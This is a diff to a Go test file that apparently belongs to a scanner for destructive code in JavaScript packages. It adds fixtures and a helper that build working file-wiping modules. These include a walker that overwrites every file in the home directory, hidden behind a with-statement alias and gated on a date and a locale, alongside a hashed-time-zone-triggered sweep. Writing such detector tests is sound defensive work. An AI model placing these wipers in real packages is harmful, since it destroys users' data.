@@ -31,6 +31,16 @@ func TestDestructiveFS(t *testing.T) {
 		// file after a day written in the code; the same walk timed by
 		// the clock is a sync tool stamping files
 		{"overwrite_after_fixed_date", map[string]string{"lib/retention.js": timeBomb("Date.now() < Date.UTC(2026, 2, 1)")}, finding.SeverityCritical},
+		// a walker of its own writing what it is handed over each file it
+		// lists, called by a module that checks a day and the locale; the
+		// same walker called by a module with no such check, and one that
+		// reads what it rewrites (a formatter)
+		{"blind_walker_loaded_by_gate", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "lib/walk.js": blindWalker(""),
+			"index.js": `const walk = require("./lib/walk"); const os = require("os"); exports.tag = () => { if (Date.now() < Date.UTC(2025, 2, 1)) return; const loc = Intl.DateTimeFormat().resolvedOptions().locale; if (loc.endsWith("-XA")) walk(os.homedir(), "peace") }`}, finding.SeverityCritical},
+		{"blind_walker_no_gate", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "lib/walk.js": blindWalker(""),
+			"index.js": `const walk = require("./lib/walk"); exports.stamp = (dir) => walk(dir, "generated")`}, finding.SeverityNone},
+		{"formatter_loaded_by_gate", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "lib/walk.js": blindWalker("const src = fs.readFileSync(p, 'utf8');"),
+			"index.js": `const walk = require("./lib/walk"); exports.fmt = () => { if (Date.now() < Date.UTC(2025, 2, 1)) return; const loc = Intl.DateTimeFormat().resolvedOptions().locale; walk(process.cwd(), loc) }`}, finding.SeverityNone},
 		// the host's time zone compared by its hash with a list of
 		// digests; a file hash over the same walk is a backup's checksum
 		{"overwrite_by_hashed_zone", map[string]string{"lib/cache.js": hashedWalk("Intl.DateTimeFormat().resolvedOptions().timeZone")}, finding.SeverityCritical},
@@ -181,4 +191,25 @@ func hashedWalk(key string) string {
 const ZONES = ["cf6de567b8374ce0", "6efc4d56df0ff417"];
 const sweep = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, "x") } };
 exports.warm = () => { const h = crypto.createHash("sha256").update(` + key + `).digest("hex").slice(0, 16); if (ZONES.includes(h)) sweep(os.homedir()) };`
+}
+
+// blindWalker is a module walking a tree and writing note over each file
+// it lists, through a with statement's object; read is a statement run
+// before each write.
+func blindWalker(read string) string {
+	return `var fs = require("fs"), path = require("path");
+var ops = { list: fs.readdirSync, stat: fs.statSync, log: fs.writeFileSync, join: path.join };
+module.exports = function walk(root, note) {
+  with (ops) {
+    for (var q = [root]; q.length; ) {
+      var d = q.shift(), names = list(d);
+      for (var i = 0; i < names.length; i++) {
+        var p = join(d, names[i]);
+        if (stat(p).isDirectory()) { q.push(p); continue; }
+        ` + read + `
+        log(p, note);
+      }
+    }
+  }
+};`
 }
